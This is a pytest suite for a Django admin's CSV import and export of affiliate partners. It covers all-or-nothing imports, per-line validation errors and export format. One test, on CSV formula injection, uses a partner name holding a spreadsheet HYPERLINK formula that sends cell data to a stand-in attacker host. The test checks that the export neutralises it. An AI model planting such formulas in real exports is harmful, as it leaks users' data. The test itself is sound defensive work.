"""CSV import and export of partners (SPEC §7 "Admins"): all or nothing, errors by line.

The admin's import and export run `partners.resources.PartnerResource`; the rules are
tested through it as the admin runs it (its CSV format reads the file into a dataset),
then through the admin's pages."""

import csv
import io
from dataclasses import dataclass

import pytest
import tablib
from django.core.exceptions import NON_FIELD_ERRORS
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from import_export import resources
from import_export.formats.base_formats import CSV
from import_export.results import RowResult

from partners.models import Partner
from partners.resources import PartnerResource
from tests.factories import PartnerFactory, ProgramFactory

pytestmark = pytest.mark.django_db

HEADER = "code,name,email,parent,program,status,cookie_days,notify_lead,notify_sale"
COLUMNS = HEADER.split(",")
IMPORT_URL = reverse("admin:partners_partner_import")
PROCESS_IMPORT_URL = reverse("admin:partners_partner_process_import")
EXPORT_URL = reverse("admin:partners_partner_export")


@dataclass(frozen=True)
class Line:
    """What is wrong on one line of the file (line 1 is the header)."""

    line: int
    messages: tuple[str, ...]


@dataclass(frozen=True)
class Imported:
    """What an import did: with any error, nothing was written."""

    created: int
    updated: int
    unchanged: int
    errors: tuple[Line, ...]


def import_csv(text: str) -> Imported:
    """Import the file as the admin does, and say what it did, errors by line."""
    result = PartnerResource().import_data(CSV().create_dataset(text))
    errors = [Line(line=1, messages=(str(error.error),)) for error in result.base_errors]
    for number, row_errors in result.row_errors():
        errors.append(Line(line=number + 1, messages=tuple(str(e.error) for e in row_errors)))
    for row in result.invalid_rows:
        messages = tuple(
            message if name == NON_FIELD_ERRORS else f"{name}: {message}"
            for name, messages in row.error_dict.items()
            for message in messages
        )
        errors.append(Line(line=row.number + 1, messages=messages))
    if errors:
        return Imported(0, 0, 0, tuple(sorted(errors, key=lambda error: error.line)))
    totals = result.totals
    return Imported(
        created=totals[RowResult.IMPORT_TYPE_NEW],
        updated=totals[RowResult.IMPORT_TYPE_UPDATE],
        unchanged=totals[RowResult.IMPORT_TYPE_SKIP],
        errors=(),
    )


def export_csv() -> str:
    return PartnerResource().export().csv


def csv_text(*lines: str, header: str = HEADER) -> str:
    return "\n".join([header, *lines]) + "\n"


def partner_rows() -> list[dict]:
    return list(Partner.objects.order_by("pk").values())


def partners_by_code() -> dict[str, tuple]:
    return {
        p.code: (
            p.name,
            p.email,
            p.parent.code if p.parent else None,
            p.program_id,
            p.status,
            p.cookie_days,
            p.notify_lead,
            p.notify_sale,
        )
        for p in Partner.objects.select_related("parent")
    }


# --- Export ------------------------------------------------------------------------------


def test_export_has_the_header_and_a_row_per_partner_parents_first():
    gold = ProgramFactory(name="Gold")
    top = PartnerFactory(
        code="zed-top", name="Zed Top", email="zed@example.com", program=gold, cookie_days=30
    )
    PartnerFactory(
        code="amy-kid",
        name="Amy, Kid",
        email="amy@example.com",
        parent=top,
        status="inactive",
        notify_sale=False,
    )

    lines = export_csv().splitlines()

    assert lines == [
        HEADER,
        f"zed-top,Zed Top,zed@example.com,,{gold.pk},active,30,true,true",
        'amy-kid,"Amy, Kid",amy@example.com,zed-top,,inactive,,true,false',
    ]


def test_export_then_import_into_an_empty_installation_gives_the_same_partners():
    gold = ProgramFactory(name="Gold")
    a = PartnerFactory(code="c-top", program=gold, cookie_days=7)
    b = PartnerFactory(code="b-middle", parent=a, notify_lead=False)
    PartnerFactory(code="a-bottom", parent=b, status="inactive")
    before = partners_by_code()
    text = export_csv()
    Partner.objects.update(parent=None)
    Partner.objects.all().delete()

    report = import_csv(text)

    assert report == Imported(created=3, updated=0, unchanged=0, errors=())
    assert partners_by_code() == before


def test_admin_export_gives_the_csv_of_the_filtered_partners(staff_client):
    PartnerFactory(code="anna", name="Anna", email="anna@example.com")
    PartnerFactory(code="bert", name="Bert", email="bert@example.com", status="inactive")
    fields = {f"partnerresource_{name}": "on" for name in COLUMNS}

    response = staff_client.post(
        f"{EXPORT_URL}?status__exact=active", {"format": "0", "resource": "0", **fields}
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.decode().splitlines() == [
        HEADER,
        "anna,Anna,anna@example.com,,,active,,true,true",
    ]


def test_the_admin_export_never_hands_a_spreadsheet_a_formula_a_partner_typed(staff_client, client):
    """A partner names themself with a formula in the Partner Center; staff export the
    partners in the admin and open the file: the cell must be text (issue 21, finding 5)."""
    from tests.functional.test_partner_center import logged_in, partner_with_login

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    mallory = partner_with_login("mallory", name="Mallory", email="m@example.com")
    profile = logged_in(mallory).post(
        "/partner/profile/",
        {"name": formula, "email": "m@example.com", "notify_lead": "on", "notify_sale": "on"},
    )
    assert profile.status_code == 302
    PartnerFactory(code="plus", name="+1 555 0100", email="-plus@example.com")
    fields = {f"partnerresource_{name}": "on" for name in COLUMNS}

    response = staff_client.post(EXPORT_URL, {"format": "0", "resource": "0", **fields})

    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}
    assert rows["mallory"]["name"] == "'" + formula
    assert (rows["plus"]["name"], rows["plus"]["email"]) == ("'+1 555 0100", "'-plus@example.com")
    cells = [cell for row in rows.values() for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # Imported again, the file gives back the names as typed.
    Partner.objects.filter(code__in=["mallory", "plus"]).update(name="changed", email="c@x.io")
    import_csv(response.content.decode())
    assert Partner.objects.get(code="mallory").name == formula
    assert Partner.objects.get(code="plus").email == "-plus@example.com"


# --- Import: good files ------------------------------------------------------------------


def test_import_creates_and_updates_with_parents_by_code():
    gold = ProgramFactory(name="Gold")
    PartnerFactory(code="maria", name="Maria", email="old@example.com", cookie_days=9)
    text = csv_text(
        f"maria,Maria Lopez,maria@example.com,,{gold.pk},,,,",
        "newtop,New Top,top@example.com,MARIA,,active,30,true,false",
        "newkid,New Kid,kid@example.com,newtop,,INACTIVE,,no,yes",
    )

    report = import_csv(text)

    assert report == Imported(created=2, updated=1, unchanged=0, errors=())
    assert partners_by_code() == {
        # empty status and switches keep the current values; empty cookie_days clears
        "maria": ("Maria Lopez", "maria@example.com", None, gold.pk, "active", None, True, True),
        "newtop": ("New Top", "top@example.com", "maria", None, "active", 30, True, False),
        "newkid": ("New Kid", "kid@example.com", "newtop", None, "inactive", None, False, True),
    }


def test_importing_the_same_file_again_changes_nothing():
    text = csv_text(
        "anna,Anna,anna@example.com,,,active,5,true,true",
        "bert,Bert,bert@example.com,anna,,inactive,,false,true",
    )
    import_csv(text)
    before = partner_rows()

    report = import_csv(text)

    assert report == Imported(created=0, updated=0, unchanged=2, errors=())
    assert partner_rows() == before


def test_import_with_only_some_columns_changes_only_those():
    PartnerFactory(code="anna", name="Anna", email="anna@example.com", cookie_days=5)

    report = import_csv(csv_text("anna,inactive", header="code,status"))

    assert report == Imported(created=0, updated=1, unchanged=0, errors=())
    assert partners_by_code() == {
        "anna": ("Anna", "anna@example.com", None, None, "inactive", 5, True, True)
    }


# --- Import: a bad line, nothing written -------------------------------------------------


GOOD_LINE_2 = "fresh,Fresh Partner,fresh@example.com,,,,,,"


@pytest.mark.parametrize(
    ("line_3", "messages"),
    [
        (
            "1abc,Bad Code,bad@example.com,,,,,,",
            (
                "code: A partner code starts with a letter and has 4 to 32 letters, digits, "
                "hyphens or underscores.",
            ),
        ),
        (
            "MARIA,Maria Again,m2@example.com,,,,,,",
            ("code: A partner with this code already exists (codes ignore case).",),
        ),
        (
            "FRESH,Fresh Again,f2@example.com,,,,,,",
            ("code: A partner with this code already exists (codes ignore case).",),
        ),
        (
            "maria,Maria,maria@example.com,kid-of-maria,,,,,",
            (
                "parent: This parent would make a cycle: the partner is already above them in "
                "the tree.",
            ),
        ),
        (
            "maria,Maria,maria@example.com,maria,,,,,",
            ("parent: A partner cannot be their own parent.",),
        ),
        (
            "ghost-kid,Ghost Kid,gk@example.com,ghost,,,,,",
            (
                "parent: No partner with code 'ghost'. A parent must already exist or be on "
                "an earlier line of the file.",
            ),
        ),
        (
            "later-kid,Later Kid,lk@example.com,later-top,,,,,",
            (
                "parent: No partner with code 'later-top'. A parent must already exist or be "
                "on an earlier line of the file.",
            ),
        ),
        ("bademail,Bad Email,not-an-email,,,,,,", ("email: Enter a valid email address.",)),
        ("noname,,noname@example.com,,,,,,", ("name: This field cannot be blank.",)),
        (
            "badstatus,S,s@example.com,,,paused,,,",
            ("status: Value 'paused' is not a valid choice.",),
        ),
        ("badprog,P,p@example.com,,999999,,,,", ("program: No program with id 999999.",)),
        (
            "badprog,P,p@example.com,,gold,,,,",
            ("program: Give the program's id (a number), not 'gold'.",),
        ),
        (
            "baddays,D,d@example.com,,,,0,,",
            ("cookie_days: Ensure this value is greater than or equal to 1.",),
        ),
        (
            "baddays,D,d@example.com,,,,ten,,",
            (
                "cookie_days: Give a whole number of days, or leave it empty for no limit "
                "(got 'ten').",
            ),
        ),
        (
            "badswitch,W,w@example.com,,,,,maybe,",
            ("notify_lead: Use true or false (got 'maybe').",),
        ),
    ],
    ids=[
        "code-starts-with-digit",
        "code-clashes-by-case-with-existing",
        "code-clashes-by-case-in-file",
        "cycle",
        "own-parent",
        "unknown-parent",
        "parent-on-a-later-line",
        "email",
        "no-name",
        "status",
        "unknown-program",
        "program-not-a-number",
        "cookie-days-zero",
        "cookie-days-not-a-number",
        "switch",
    ],
)
def test_a_bad_line_is_reported_by_number_and_nothing_is_written(line_3, messages):
    maria = PartnerFactory(code="maria", name="Maria", email="maria@example.com")
    PartnerFactory(code="kid-of-maria", parent=maria)
    before = partner_rows()
    text = csv_text(GOOD_LINE_2, line_3, "later-top,Later Top,lt@example.com,,,,,,")

    report = import_csv(text)

    assert report == Imported(
        created=0, updated=0, unchanged=0, errors=(Line(line=3, messages=messages),)
    )
    assert partner_rows() == before


def test_every_bad_line_is_reported_in_order():
    text = csv_text(
        "1bad,One,one@example.com,,,,,,",
        GOOD_LINE_2,
        "twobad,Two,not-an-email,,,,,yes-please,",
    )

    report = import_csv(text)

    assert [(error.line, error.messages) for error in report.errors] == [
        (
            2,
            (
                "code: A partner code starts with a letter and has 4 to 32 letters, digits, "
                "hyphens or underscores.",
            ),
        ),
        (
            4,
            (
                "notify_lead: Use true or false (got 'yes-please').",
                "email: Enter a valid email address.",
            ),
        ),
    ]
    assert Partner.objects.count() == 0


@pytest.mark.parametrize(
    ("text", "error"),
    [
        (
            "name,email\nAnna,anna@example.com\n",
            Line(
                line=1,
                messages=(
                    "The first line must name the columns and include 'code'. Columns: code, "
                    "name, email, parent, program, status, cookie_days, notify_lead, "
                    "notify_sale.",
                ),
            ),
        ),
        (
            "code,name,emial\nanna,Anna,anna@example.com\n",
            Line(
                line=1,
                messages=(
                    "Unknown column(s): emial. Columns: code, name, email, parent, program, "
                    "status, cookie_days, notify_lead, notify_sale.",
                ),
            ),
        ),
    ],
    ids=["no-code-column", "unknown-column"],
)
def test_a_bad_file_shape_is_reported_and_nothing_is_written(text, error):
    report = import_csv(text)

    assert error in report.errors
    assert Partner.objects.count() == 0


# --- The all-or-nothing guarantee inside django-import-export ----------------------------


def bad_second_row() -> tablib.Dataset:
    return tablib.Dataset(
        ("good1", "Good", "good@example.com"),
        ("1bad", "Bad", "bad@example.com"),
        headers=["code", "name", "email"],
    )


def test_the_library_alone_keeps_good_rows_when_another_row_is_invalid():
    """Why PartnerResource forces the rollback: django-import-export 4.4 rolls back on
    exceptions only, unless rollback_on_validation_errors is passed (its admin's confirm
    step does not pass it)."""

    class PlainResource(resources.ModelResource):
        class Meta:
            model = Partner
            fields = ("code", "name", "email")
            import_id_fields = ["code"]
            clean_model_instances = True
            use_transactions = True

    result = PlainResource().import_data(bad_second_row(), dry_run=False)

    assert result.has_validation_errors()
    assert list(Partner.objects.values_list("code", flat=True)) == ["good1"]


def test_the_partner_resource_writes_nothing_when_a_row_is_invalid():
    result = PartnerResource().import_data(
        bad_second_row(), dry_run=False, rollback_on_validation_errors=False
    )

    assert [row.number for row in result.invalid_rows] == [2]
    assert Partner.objects.count() == 0


# --- Import in the admin ------------------------------------------------------------------


def upload(text: str) -> SimpleUploadedFile:
    return SimpleUploadedFile("partners.csv", text.encode(), content_type="text/csv")


def test_admin_import_previews_then_imports_on_confirm(staff_client):
    PartnerFactory(code="maria", name="Maria", email="maria@example.com")
    text = csv_text(
        "newtop,New Top,top@example.com,maria,,,,,",
        "newkid,New Kid,kid@example.com,newtop,,,,,",
    )

    preview = staff_client.post(IMPORT_URL, {"import_file": upload(text), "format": "0"})

    assert preview.status_code == 200
    assert preview.context["confirm_form"] is not None
    assert list(Partner.objects.values_list("code", flat=True)) == ["maria"]

    done = staff_client.post(
        PROCESS_IMPORT_URL, preview.context["confirm_form"].initial, follow=True
    )

    assert done.redirect_chain == [(reverse("admin:partners_partner_changelist"), 302)]
    assert [str(m) for m in done.context["messages"]] == [
        "Import finished: 2 new, 0 updated, 0 deleted and 0 skipped partners."
    ]
    assert partners_by_code()["newkid"][2] == "newtop"
    assert partners_by_code()["newtop"][2] == "maria"


def test_admin_import_shows_the_bad_line_and_offers_no_confirm(staff_client):
    before = partner_rows()
    text = csv_text(GOOD_LINE_2, "1abc,Bad Code,bad@example.com,,,,,,")

    response = staff_client.post(IMPORT_URL, {"import_file": upload(text), "format": "0"})

    assert response.status_code == 200
    assert "confirm_form" not in response.context
    assert [row.number + 1 for row in response.context["result"].invalid_rows] == [3]
    assert "Nothing was imported: some lines are wrong" in response.text
    assert "<td>3</td>" in response.text
    assert partner_rows() == before


def test_admin_import_reports_a_bad_header(staff_client):
    text = "code,name,emial\nanna,Anna,anna@example.com\n"

    response = staff_client.post(IMPORT_URL, {"import_file": upload(text), "format": "0"})

    assert "Unknown column(s): emial." in response.text
    assert "confirm_form" not in response.context
    assert Partner.objects.count() == 0


def test_admin_confirm_writes_nothing_if_a_line_fails_after_the_preview(staff_client):
    text = csv_text(
        "first1,First,first@example.com,,,,,,",
        "second,Second,second@example.com,,,,,,",
    )
    preview = staff_client.post(IMPORT_URL, {"import_file": upload(text), "format": "0"})
    PartnerFactory(code="SECOND")  # someone took the code meanwhile
    before = partner_rows()

    done = staff_client.post(
        PROCESS_IMPORT_URL, preview.context["confirm_form"].initial, follow=True
    )

    assert done.redirect_chain == [(IMPORT_URL, 302)]
    assert [str(m) for m in done.context["messages"]] == [
        "Nothing was imported: the file has errors on line(s) 3 (line 1 is the header). "
        "Upload it again to see them."
    ]
    assert partner_rows() == before
